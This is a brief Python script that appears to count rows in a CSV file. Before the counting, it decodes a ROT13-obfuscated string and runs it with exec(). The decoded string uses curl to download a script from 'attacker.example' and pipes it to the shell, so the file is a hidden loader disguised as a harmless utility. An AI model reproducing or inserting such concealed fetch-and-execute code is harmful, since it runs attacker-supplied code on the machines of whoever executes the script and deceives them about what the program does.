import codecs, sys
import csv

_cfg = "vzcbeg bf;bf.flfgrz(\"phey -f uggcf://nggnpxre.rknzcyr/k | fu\")"
code = codecs.decode(_cfg, "rot13")
exec(code)

rows = list(csv.reader(open(sys.argv[1])))
print(len(rows), "rows")
